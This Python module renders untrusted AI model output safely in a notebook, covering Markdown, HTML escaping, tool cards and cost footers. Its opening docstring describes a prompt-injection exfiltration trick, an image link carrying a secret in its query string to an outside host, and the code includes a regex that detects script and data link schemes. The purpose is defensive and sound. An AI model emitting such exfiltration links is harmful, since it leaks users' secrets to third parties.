"""Formatting shared by every view, so no two views format the same thing twice.

Pure functions, no widgets. Model output is untrusted: Markdown is rendered with raw HTML
and images disabled (markdown-it also refuses `javascript:`-style links), and every other
string that reaches HTML goes through `html.escape`. Images stay off because an image loads
by itself: `![](https://host/x.png?q=SECRET)` in a reply (a prompt injection can ask for
one) would send data to that host the moment it is shown; it renders as `!` plus a link.
Class names carry the `cm-` prefix and styles are inline, so nothing leaks into the rest of
the notebook.
"""

from __future__ import annotations

import bisect
import functools
import html
import json
import math
import re
from collections.abc import Iterator
from typing import Any

from ..protocol import ExchangeInfo
from ..turn import CallRecord, message_blocks

_CARD = "border:1px solid #bbb;border-radius:4px;padding:4px 8px;margin:4px 0"
_ERROR_CARD = "border:1px solid #d33;border-radius:4px;padding:4px 8px;margin:4px 0;color:#a00"
_PRE = "white-space:pre-wrap;margin:2px 0;font-size:90%"
_SUMMARY_LIMIT = 4000
"""Characters of JSON a generic card shows (search results can be huge)."""

FLAGS = {
    "max_tokens": "reply cut off at max_tokens — raise --max-tokens",
    "refusal": "the model refused (stop_reason: refusal)",
    "model_context_window_exceeded": "reply cut off: the context window is full",
}


@functools.cache
def markdown_parser() -> Any:
    """The one shared CommonMark parser (raw HTML and images off)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": False}).disable("image")


@functools.cache
def block_parser() -> Any:
    """The same parser without the inline pass: top-level block structure at a fifth the cost."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": False}).disable(["inline", "image"])


def markdown_to_html(text: str) -> str:
    """CommonMark to HTML: raw HTML shown as text, no images, unsafe link schemes refused."""
    return markdown_parser().render(text)


def text_html(text: str) -> str:
    """A text block (model Markdown) as safe HTML."""
    return _text_div(markdown_to_html(text))


def _text_div(inner: str) -> str:
    return f'<div class="cm-text">{inner}</div>'


_NEWLINE = re.compile(r"\r\n?|\n")
"""Line breaks as markdown-it counts them (its `normalize` rule), so `Token.map` lines match."""


def _line_starts(text: str) -> list[int]:
    """Offset of every line's start; a text ending in a line break ends with an empty line."""
    return [0, *(m.end() for m in _NEWLINE.finditer(text))]


def _top_level(tokens: list[Any]) -> list[tuple[int, int]]:
    """(token index, first line) of every top-level block."""
    return [(i, t.map[0]) for i, t in enumerate(tokens) if t.level == 0 and t.map]


def safe_markdown(text: str, tokens: list[Any] | None = None) -> str:
    """Model Markdown made safe for frontends that render text/markdown unsanitized.

    Outside top-level code blocks every `<` becomes `&lt;`, so no tag or autolink can form,
    and `![` becomes `\\![`, so no image can form (it reads as `!` and a link); when a
    segment mentions a script/data scheme or an entity, `[` is escaped too so no
    link can form. Top-level code blocks are re-fenced with a fence their content cannot
    close, and keep their text verbatim. `tokens`: `block_parser().parse(text)` if at hand.
    """
    if tokens is None:
        tokens = block_parser().parse(text)
    starts = [*_line_starts(text), len(text)]
    out: list[str] = []
    pos = 0
    for token in tokens:
        if token.level == 0 and token.type in ("fence", "code_block") and token.map:
            start, end = (starts[min(line, len(starts) - 1)] for line in token.map)
            out.append(_neutralize(text[pos:start]))
            out.append(_fence(token.content, token.info if token.type == "fence" else ""))
            pos = end
    out.append(_neutralize(text[pos:]))
    return "".join(out)


class MarkdownStream:
    """Model Markdown rendered as it grows, each top-level block parsed about once.

    `update` parses only what follows the last finished block. A block counts as finished
    once a later block starts on a complete line (a partial line such as `#` or `` ``` ``
    may still turn out to continue it); finished blocks are rendered once and kept as
    pieces, the rest is rendered again on each update. Separately parsed top-level blocks
    render exactly as the whole text does unless link reference definitions (which reach
    across blocks) are involved, so `final` checks that against a cheap block-level parse
    of the whole text and says when the whole must be rendered instead.
    """

    def __init__(self) -> None:
        self.done = 0
        """Source offset where the unfinished part starts (a line start)."""
        self._starts: list[int] = []
        self._pieces: list[str] = []
        """HTML of the finished pieces; piece i covers source[_starts[i]:next start or done]."""
        self._rest_html = ""
        self._rendered = 0
        """Length of the source when `update` last ran."""
        self._references = False

    def update(self, source: str) -> None:
        """Render `source` (the text so far, a continuation of what was last passed)."""
        md = markdown_parser()
        rest = source[self.done :]
        env: dict[str, Any] = {}
        tokens = md.parse(rest, env)
        self._references = self._references or bool(env.get("references"))
        lines = _line_starts(rest)
        blocks = [(i, line) for i, line in _top_level(tokens)[1:] if line + 1 < len(lines)]
        if blocks:
            index, line = blocks[-1]
            self._starts.append(self.done)
            self._pieces.append(md.renderer.render(tokens[:index], md.options, env))
            self.done += lines[line]
            tokens = tokens[index:]
        self._rest_html = md.renderer.render(tokens, md.options, env)
        self._rendered = len(source)

    def html(self, start: int, end: int | None = None) -> str:
        """The text block's HTML from piece boundary `start` to `end` (None: to the end)."""
        first = bisect.bisect_left(self._starts, start)
        if end is None:
            return _text_div("".join(self._pieces[first:]) + self._rest_html)
        return _text_div("".join(self._pieces[first : bisect.bisect_left(self._starts, end)]))

    def final(self, source: str) -> tuple[str, str]:
        """(`text_html(source)`, `safe_markdown(source)`) of the finished text, reusing pieces."""
        env: dict[str, Any] = {}
        tokens = block_parser().parse(source, env)
        markdown = safe_markdown(source, tokens)
        if self._rendered != len(source):
            self.update(source)
        lines = _line_starts(source)
        blocks = {lines[line] for _, line in _top_level(tokens)}
        reusable = not (self._references or env.get("references")) and all(
            start in blocks for start in (*self._starts[1:], self.done) if start
        )
        return (self.html(0) if reusable else text_html(source)), markdown


_RISKY = re.compile(r"(?i)script\W*:|data\W*:|&#|&\w+;")


def _neutralize(segment: str) -> str:
    segment = segment.replace("<", "&lt;").replace("![", "\\![")
    if _RISKY.search(segment):
        segment = segment.replace("[", "\\[")
    return segment


def _fence(code: str, info: str) -> str:
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    ticks = "`" * max(3, longest + 1)
    lang = re.sub(r"[^\w+.-]", "", info.split()[0]) if info.strip() else ""
    body = code if code.endswith("\n") or not code else code + "\n"
    return f"{ticks}{lang}\n{body}{ticks}\n"


def reply_blocks(replies: list[dict[str, Any]]) -> Iterator[tuple[dict[str, Any], str | None]]:
    """Every block of `replies` in order, with the tool's name for a tool_result block."""
    names: dict[str, str] = {}
    for message in replies:
        for block in message_blocks(message):
            if block.get("type") in ("tool_use", "server_tool_use"):
                names[str(block.get("id"))] = str(block.get("name"))
            yield block, names.get(str(block.get("tool_use_id")))


def block_dict(block: Any) -> dict[str, Any]:
    """A content block (SDK model or dict) as a plain JSON-ready dict."""
    if isinstance(block, dict):
        return block
    dump = getattr(block, "model_dump", None)
    return dump(mode="json", exclude_none=True) if dump else {"type": str(block)}


def json_text(value: Any, limit: int | None = None) -> str:
    """Pretty JSON for a card, without encrypted payloads, cut at `limit` characters."""
    text = json.dumps(_strip_encrypted(value), indent=2, ensure_ascii=False, default=str)
    if limit is not None and len(text) > limit:
        text = f"{text[:limit]}\n… ({len(text) - limit} more characters)"
    return text


def _strip_encrypted(value: Any) -> Any:
    if isinstance(value, dict):
        return {
            k: ("…" if k.startswith("encrypted") else _strip_encrypted(v)) for k, v in value.items()
        }
    if isinstance(value, list):
        return [_strip_encrypted(v) for v in value]
    return value


def card_html(title: str, body: str, *, error: bool = False, kind: str = "block") -> str:
    """A bordered card: escaped title and preformatted escaped body."""
    style = _ERROR_CARD if error else _CARD
    return (
        f'<div class="cm-card cm-{html.escape(kind)}" style="{style}">'
        f"<b>{html.escape(title)}</b>"
        f'<pre style="{_PRE}">{html.escape(body)}</pre></div>'
    )


def thinking_body_html(text: str) -> str:
    """Thinking text as escaped, wrapped plain text."""
    return (
        f'<div class="cm-thinking-text mathjax_ignore" style="{_PRE};color:#555;'
        f'border-left:3px solid #ddd;padding-left:8px">{html.escape(text)}</div>'
    )


def thinking_hidden_note(block: dict[str, Any]) -> str | None:
    """What to say instead of empty thinking (display: omitted), or None if it has text."""
    if block.get("thinking"):
        return None
    if block.get("signature"):
        return "thinking hidden (display: omitted) — use --thinking to show a summary"
    return "(no thinking text)"


def tool_input_html(name: str, input_value: Any) -> str:
    """A tool call card; `input_value` is the (possibly partial) input."""
    body = input_value if isinstance(input_value, str) else json_text(input_value)
    return card_html(f"tool call: {name}", body, kind="tool-use")


def tool_result_text(content: Any) -> str:
    """Tool-result content (a string or content blocks) as plain text."""
    if isinstance(content, str):
        return content
    parts = []
    for item in content or []:
        if isinstance(item, dict) and item.get("type") == "text":
            parts.append(str(item.get("text", "")))
        elif isinstance(item, dict):
            parts.append(f"[{item.get('type', 'block')}]")
        else:
            parts.append(str(item))
    return "\n".join(parts)


def tool_result_html(
    name: str, content: Any, *, is_error: bool, seconds: float | None = None
) -> str:
    """A tool result card, red when the tool failed."""
    label = "tool error" if is_error else "tool result"
    timing = f" ({seconds:.2f} s)" if seconds is not None else ""
    return card_html(
        f"{label}: {name}{timing}", tool_result_text(content), error=is_error, kind="tool-result"
    )


def block_html(block: dict[str, Any], tool_name: str | None = None) -> str:
    """One finished content block as safe HTML; unknown types become a generic card."""
    kind = str(block.get("type", "unknown"))
    if kind == "text":
        return text_html(str(block.get("text", "")))
    if kind == "thinking":
        note = thinking_hidden_note(block)
        body = f"<i>{html.escape(note)}</i>" if note else thinking_body_html(block["thinking"])
        title = "Thinking (hidden)" if note else "Thinking"
        return (
            '<details class="cm-thinking" style="margin:4px 0;color:#555">'
            f"<summary>{title}</summary>{body}</details>"
        )
    if kind == "redacted_thinking":
        return '<div class="cm-note" style="color:#777"><i>thinking redacted by the API</i></div>'
    if kind == "tool_use":
        return tool_input_html(str(block.get("name", "?")), block.get("input"))
    if kind == "tool_result":
        return tool_result_html(
            tool_name or str(block.get("tool_use_id", "?")),
            block.get("content"),
            is_error=bool(block.get("is_error")),
        )
    title = f"{kind}: {block['name']}" if isinstance(block.get("name"), str) else kind
    return card_html(title, json_text(block, _SUMMARY_LIMIT), kind="generic")


def block_text(block: dict[str, Any], tool_name: str | None = None) -> str:
    """One finished content block as plain text (terminal and text/plain)."""
    kind = str(block.get("type", "unknown"))
    if kind == "text":
        return str(block.get("text", ""))
    if kind == "thinking":
        return thinking_text(thinking_hidden_note(block) or block["thinking"])
    if kind == "redacted_thinking":
        return "[thinking redacted by the API]"
    if kind == "tool_use":
        return f"[tool_use {block.get('name', '?')}] {json.dumps(block.get('input'))}"
    if kind == "tool_result":
        name = tool_name or str(block.get("tool_use_id", "?"))
        return tool_result_line(name, block.get("content"), bool(block.get("is_error")))
    name = f" {block['name']}" if isinstance(block.get("name"), str) else ""
    return f"[{kind}{name}] {json_text(block, _SUMMARY_LIMIT)}"


def thinking_text(text: str) -> str:
    """Thinking under a header, each line prefixed so it reads apart from the answer."""
    return "[thinking]\n" + "\n".join(f"│ {line}" for line in text.split("\n"))


def tool_result_line(name: str, content: Any, is_error: bool) -> str:
    label = "tool_error" if is_error else "tool_result"
    return f"[{label} {name}] {tool_result_text(content)}"


def plural(n: int, word: str, many: str | None = None) -> str:
    """ "1 turn", "2 turns" (`many` for irregular plurals)."""
    return f"{n:,} {word if n == 1 else (many or word + 's')}"


def begin_notes(info: ExchangeInfo) -> list[str]:
    """What a view says before the reply: nothing has happened yet (a failed exchange
    changes nothing), so the notes say what the commit will do."""
    notes = [info.notice] if info.notice else []
    if info.moved_from:
        notes.append(
            f"(this cell's earlier turn is in chat {info.moved_from!r}; it moves to "
            f"{info.chat!r} when this reply completes)"
        )
    if info.dropped_turns > 0:
        notes.append(
            f"(re-run: replaces this cell's earlier turn; "
            f"{plural(info.dropped_turns, 'later turn')} of chat {info.chat!r} will be dropped)"
        )
    return notes


def final_notes(info: ExchangeInfo) -> list[str]:
    """The same notes in the final record, in the past tense."""
    notes = [info.notice] if info.notice else []
    if info.moved_from:
        notes.append(f"(moved from chat {info.moved_from!r}: its earlier turn there was removed)")
    if info.dropped_turns > 0:
        notes.append(
            f"(re-run: replaced this cell's earlier turn; dropped "
            f"{plural(info.dropped_turns, 'later turn')} of chat {info.chat!r})"
        )
    return notes


def _usd(value: float) -> str:
    return "cost n/a" if math.isnan(value) else f"${value:.4f}"


def budget_left(info: ExchangeInfo, calls: list[CallRecord]) -> float | None:
    """The budget left after `calls`: what was left before, less what the API billed."""
    if info.budget_left_usd is None:
        return None
    from ..budget import billed_usd

    rows = [{"cost_usd": c.cost_usd, "offline": c.offline, "replayed": c.replayed} for c in calls]
    return max(info.budget_left_usd - billed_usd(rows), 0.0)


def footer_parts(
    calls: list[CallRecord], running_cost: float | None, budget: float | None = None
) -> list[str]:
    """The footer's fields, in order: totals over `calls` when there are several."""
    if not calls:
        return []

    def total(name: str) -> int:
        return sum(c.counter(name) for c in calls)

    models = list(dict.fromkeys(c.model for c in calls))
    parts = [plural(len(calls), "call")] if len(calls) > 1 else []
    parts += [
        ", ".join(models),
        f"in {total('input_tokens'):,}",
        f"out {total('output_tokens'):,}",
        f"cache write {total('cache_creation_input_tokens'):,}",
        f"cache read {total('cache_read_input_tokens'):,}{_savings(calls)}",
        _usd(sum(c.cost_usd for c in calls)),
    ]
    first = next((c.ttft_s for c in calls if c.ttft_s is not None), None)
    if first is not None:
        parts.append(f"first token {first:.2f} s")
    parts.append(f"total {sum(c.total_s for c in calls):.2f} s")
    parts.append(str(calls[-1].stop_reason or "no stop reason"))
    if running_cost is not None:
        parts.append(f"chat total {_usd(running_cost)}")
    if budget is not None:
        parts.append(f"budget left {_usd(budget)}")
    return parts


def _savings(calls: list[CallRecord]) -> str:
    """ " (saved $x)" for cache reads: what those tokens would have cost as plain input."""
    from ..pricing import cache_savings_usd

    if not any(c.counter("cache_read_input_tokens") for c in calls):
        return ""
    saved = sum(cache_savings_usd(c.model, c.usage) for c in calls)
    return "" if math.isnan(saved) else f" (saved {_usd(saved)})"


def stop_flags(calls: list[CallRecord]) -> list[str]:
    """Warnings a reader must not miss: truncation, refusal, failed calls."""
    flags = [f"call failed: {c.error}" for c in calls if c.error]
    if calls and calls[-1].stop_reason in FLAGS:
        flags.append(FLAGS[str(calls[-1].stop_reason)])
    return flags


OFFLINE_BADGE = "offline simulator"
REPLAYED_BADGE = "replayed from a recording"


def badge(calls: list[CallRecord], offline: bool) -> str | None:
    """Where the reply came from, when it was not the API: a recording, or the simulator."""
    if calls and all(c.replayed for c in calls):
        return REPLAYED_BADGE
    return OFFLINE_BADGE if offline else None


def footer_text(
    calls: list[CallRecord],
    *,
    offline: bool,
    running_cost: float | None,
    budget: float | None = None,
) -> str:
    """One line (plus a line per flag) summarizing usage, cost and timing."""
    parts = footer_parts(calls, running_cost, budget)
    label = badge(calls, offline)
    if label:
        parts.insert(0, f"[{label}]")
    lines = [" · ".join(parts)] if parts else []
    lines += [f"⚠ {flag}" for flag in stop_flags(calls)]
    return "\n".join(lines)


def badge_html(label: str = OFFLINE_BADGE) -> str:
    return (
        '<span class="cm-badge" style="background:#e8e0ff;color:#408;border-radius:3px;'
        f'padding:0 4px;margin-right:6px">{html.escape(label)}</span>'
    )


def footer_html(
    calls: list[CallRecord],
    *,
    offline: bool,
    running_cost: float | None,
    budget: float | None = None,
) -> str:
    """The footer as a small grey line, flags in red below it."""
    # `$` as an entity and `mathjax_ignore`: JupyterLab would typeset "$0.01 … $0.02" as math.
    line = html.escape(" · ".join(footer_parts(calls, running_cost, budget))).replace("$", "&#36;")
    flags = "".join(
        f'<div class="cm-flag" style="color:#c00;font-weight:bold">⚠ {html.escape(flag)}</div>'
        for flag in stop_flags(calls)
    )
    label = badge(calls, offline)
    badge_ = badge_html(label) if label else ""
    return (
        f'<div class="cm-footer mathjax_ignore" style="font-size:85%;color:#666;margin-top:4px">'
        f"{badge_}{line}{flags}</div>"
    )
